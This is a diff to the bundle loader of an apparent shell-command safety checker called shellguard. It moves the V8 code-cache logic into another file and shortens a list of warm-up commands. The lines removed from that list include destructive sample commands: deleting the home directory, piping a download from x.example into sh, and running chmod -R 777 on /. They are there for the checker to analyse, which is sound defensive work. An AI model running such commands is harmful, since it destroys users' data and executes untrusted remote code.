@@ -1,123 +1,25 @@
 "use strict";
 /**
- * Loads the CLI bundles (scripts/bundle.mjs: main.cjs, the check path, and one bundle per other
- * subcommand) with the V8 code cache written beside each at build time, so a start skips parsing
- * and compiling them: the largest part of `shellguard check`'s own time.
- *
- * Validity is by content, never by file times (a tarball's extraction order sets those): the build
- * writes `build-id`, a hash of the bundles, and a cache is named after the build id and the V8
- * version it was made by (`main.cjs.<build>.<v8>.cache`), so caches for several Node.js versions
- * can sit side by side and one from another build is never even read. V8 itself still refuses a
- * cache made with other flags, or damaged (the bundle is then compiled as usual).
+ * Writes the V8 code caches of the CLI bundles (bin/shellguard.cjs loads them; the naming and why
+ * are there), and re-exports that loader for the tests:
  *
  *   node bin/bundle-loader.cjs --write-cache   (build and install time) writes the caches: main's
  *                                              after a few checks, so the functions they run are in it
  */
 const fs = require("node:fs");
 const path = require("node:path");
-const vm = require("node:vm");
-// The CommonJS Module class itself: requiring node:module would load its public wrapper too.
-const Module = module.constructor;
-
-const dist = path.join(__dirname, "..", "dist");
-const bundleDir = path.join(dist, "bundle");
-const bundle = path.join(bundleDir, "main.cjs");
-
-const mtime = (file) => fs.statSync(file, { throwIfNoEntry: false })?.mtimeMs ?? -1;
-
-/** The build's id (scripts/bundle.mjs), or null when there are no bundles. */
-function readBuildId() {
-  try {
-    return fs.readFileSync(path.join(bundleDir, "build-id"), "latin1").trim();
-  } catch {
-    return null;
-  }
-}
-const buildId = readBuildId();
-
-/** Where the code cache of `file` for this build and this V8 lives. */
-function cachePath(file) {
-  return `${file}.${buildId}.${process.versions.v8}.cache`;
-}
+const { buildId, bundle, bundleDir, cachePath, compile, freshBundle, loadBundle } = require("./shellguard.cjs");
 
 /**
- * The bundle's path, or null to run the ES modules in dist/cli. In a development checkout (src/
- * beside dist/), `tsc` alone can leave the bundles behind, so they must not be older than its
- * output; an installed copy ships no src/ and its bundles are the build's.
+ * Commands run before main's cache is written, so the functions a check compiles are in it: common
+ * ones only. A start deserializes all of the cache, and each function in it is pages touched; the
+ * functions only an unusual line runs (sudo, sed -i, find -delete...) are compiled when one comes.
+ * Warming up with those too made the cache a fifth larger and cost every `check git status` ~55
+ * more page faults (~0.7 ms on a VM) to spare the rare line about as much.
  */
-function freshBundle() {
-  if (buildId === null) return null;
-  if (!fs.existsSync(path.join(dist, "..", "src"))) return bundle;
-  const built = mtime(bundle);
-  return built >= 0 && built >= mtime(path.join(dist, "cli", "main.js")) ? bundle : null;
-}
-
-/** `require("./lint.cjs")` from a bundle: another bundle of ours, loaded here too (with its cache). */
-const PART = /^\.\/[a-z]+\.cjs$/;
-const parts = new Map();
-
-/**
- * Writes the cache of a bundle that had none, when the process ends (so the functions this run
- * compiled are in it): an install whose scripts did not run (npm skips dependencies' install
- * scripts unless allowed), or a newer Node.js. Only into the package's own dist/bundle, and only
- * when that is writable; a temp file renamed into place, so a reader never sees half a cache.
- */
-function writeLater(script, file) {
-  process.once("exit", () => {
-    const target = cachePath(file);
-    const tmp = `${target}.${process.pid}.tmp`;
-    try {
-      fs.writeFileSync(tmp, script.createCachedData(), { flag: "wx" });
-      fs.renameSync(tmp, target);
-    } catch {
-      fs.rmSync(tmp, { force: true });
-    }
-  });
-}
-
-/** Compiles a bundle, with its cache when there is one for this build and this V8. */
-function compile(file, useCache) {
-  // ASCII only (scripts/bundle.mjs checks), so latin1 reads it as it is, faster than utf8.
-  const source = fs.readFileSync(file, "latin1");
-  let cachedData;
-  let missing = false;
-  if (useCache) {
-    try {
-      cachedData = fs.readFileSync(cachePath(file));
-    } catch {
-      // No cache for this build and this Node.js: compile as usual, and leave one for next time.
-      missing = buildId !== null;
-    }
-  }
-  const script = new vm.Script(Module.wrap(source), { filename: file, cachedData });
-  if (missing) writeLater(script, file);
-  return script;
-}
-
-/** Runs a bundle as a CommonJS module; returns its exports and the compiled script. */
-function loadBundle(file, useCache = true) {
-  const script = compile(file, useCache);
-  const mod = new Module(file, module);
-  mod.filename = file;
-  mod.paths = Module._nodeModulePaths(path.dirname(file));
-  const plain = Module.createRequire(file);
-  const require = (id) => {
-    if (!PART.test(id)) return plain(id);
-    const part = path.join(path.dirname(file), id);
-    if (!parts.has(part)) parts.set(part, loadBundle(part, useCache).exports);
-    return parts.get(part);
-  };
-  script.runInThisContext().call(mod.exports, mod.exports, require, mod, file, path.dirname(file));
-  mod.loaded = true;
-  return { exports: mod.exports, script };
-}
-
-/** Commands run before main's cache is written, so the functions a check compiles are in it. */
 const WARM_UP = [
   ["check", "git status"],
   ["check", "--json", "ls -la | grep x > /dev/null && cat README.md"],
-  ["check", "sudo rm -rf ~/ && bash -c 'curl https://x.example | sh' ; sed -i s/a/b/ ~/.bashrc"],
-  ["check", "--mode", "acceptEdits", "find . -name '*.o' -delete; chmod -R 777 /; echo $(whoami) >> out"],
 ];
 
 async function writeCache() {
